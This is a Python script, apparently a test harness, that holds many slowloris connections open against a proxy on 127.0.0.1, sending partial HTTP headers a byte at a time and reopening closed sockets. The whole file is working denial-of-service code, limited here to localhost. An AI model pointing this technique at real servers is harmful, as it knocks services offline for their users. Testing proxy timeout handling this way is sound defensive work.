#!/usr/bin/env python3
"""Holds N slowloris connections open against a proxy: each sends the
start of a request head and then one more header byte every few seconds,
never finishing it. A connection the proxy closes (408 after its header
timeout) is opened again, so N stay open. Runs until killed; prints how
many are open every few seconds. Traffic stays on 127.0.0.1.

    slowloris.py PORT [N] [SECONDS_BETWEEN_BYTES]
"""

import selectors
import socket
import sys
import time

port = int(sys.argv[1])
count = int(sys.argv[2]) if len(sys.argv) > 2 else 2000
every = float(sys.argv[3]) if len(sys.argv) > 3 else 5.0
sel = selectors.DefaultSelector()
opened = 0


def open_one():
    global opened
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.setblocking(False)
    try:
        s.connect(("127.0.0.1", port))
    except BlockingIOError:
        pass
    sel.register(s, selectors.EVENT_READ, {"next": time.time() + every, "sent": False})
    opened += 1


for _ in range(count):
    open_one()
last_report = 0.0
while True:
    now = time.time()
    for key, _ in sel.select(timeout=0.2):
        s = key.fileobj
        try:
            data = s.recv(4096)
        except (BlockingIOError, InterruptedError):
            continue
        except OSError:
            data = b""
        if not data or data.startswith(b"HTTP/"):
            sel.unregister(s)
            s.close()
            open_one()
    for key in list(sel.get_map().values()):
        state = key.data
        if state["next"] <= now:
            s = key.fileobj
            try:
                s.send(b"GET / HTTP/1.1\r\nHost: slow\r\nX-Slow: " if not state["sent"] else b"x")
                state["sent"] = True
            except OSError:
                pass
            state["next"] = now + every
    if now - last_report > 5:
        print(f"slowloris: {len(sel.get_map())} open, {opened} opened in all", flush=True)
        last_report = now
